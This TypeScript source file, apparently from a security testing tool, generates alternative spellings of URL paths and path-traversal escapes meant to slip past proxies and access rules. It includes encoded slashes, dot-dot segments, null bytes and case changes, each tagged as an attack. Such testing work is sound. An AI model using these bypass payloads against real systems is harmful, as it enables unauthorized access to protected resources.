/** Another way to write a path that many applications take for the same. */
export interface Spelling {
  /** `attack.slash-after`, …: its words are in `src/words`. */
  readonly id: string;
  /** The path itself where it cannot be written so. */
  write(path: string): string;
}

/** From the most to the least likely to be taken for the same. */
export const SPELLINGS: readonly Spelling[] = [
  { id: 'attack.query', write: (path) => `${path}?x=1` },
  { id: 'attack.slash-after', write: (path) => (path.endsWith('/') ? path : `${path}/`) },
  { id: 'attack.double-slash', write: (path) => `/${path}` },
  { id: 'attack.dot', write: (path) => `/.${path}` },
  { id: 'attack.dot-dot', write: (path) => `/x/..${path}` },
  { id: 'attack.encoded', write: (path) => lastSegment(path, (text) => `${encoded(text[0] ?? '')}${text.slice(1)}`) },
  { id: 'attack.encoded-slash', write: (path) => innerSlashes(path, '%2F') },
  { id: 'attack.backslash', write: (path) => innerSlashes(path, '\\') },
  { id: 'attack.upper-case', write: (path) => lastSegment(path, (text) => text.toUpperCase()) },
  { id: 'attack.parameter', write: (path) => `${path};x=1` },
  { id: 'attack.zero', write: (path) => `${path}%00` },
];

/** Ways from below a path to another one: proxies that do not resolve them see what the path begins with. */
export const ESCAPES: readonly { readonly id: string; write(prefix: string, path: string): string }[] = [
  { id: 'attack.escape', write: (prefix, path) => `${prefix}/..${path}` },
  { id: 'attack.escape-encoded', write: (prefix, path) => `${prefix}/%2e%2e${path}` },
  { id: 'attack.escape-slash', write: (prefix, path) => `${prefix}/..%2f${path.slice(1)}` },
];

function lastSegment(path: string, change: (text: string) => string): string {
  const at = path.lastIndexOf('/') + 1;
  return at === path.length ? path : path.slice(0, at) + change(path.slice(at));
}

function innerSlashes(path: string, slash: string): string {
  return `${path.slice(0, 1)}${path.slice(1).replaceAll('/', slash)}`;
}

function encoded(letter: string): string {
  return `%${letter.charCodeAt(0).toString(16).toUpperCase()}`;
}
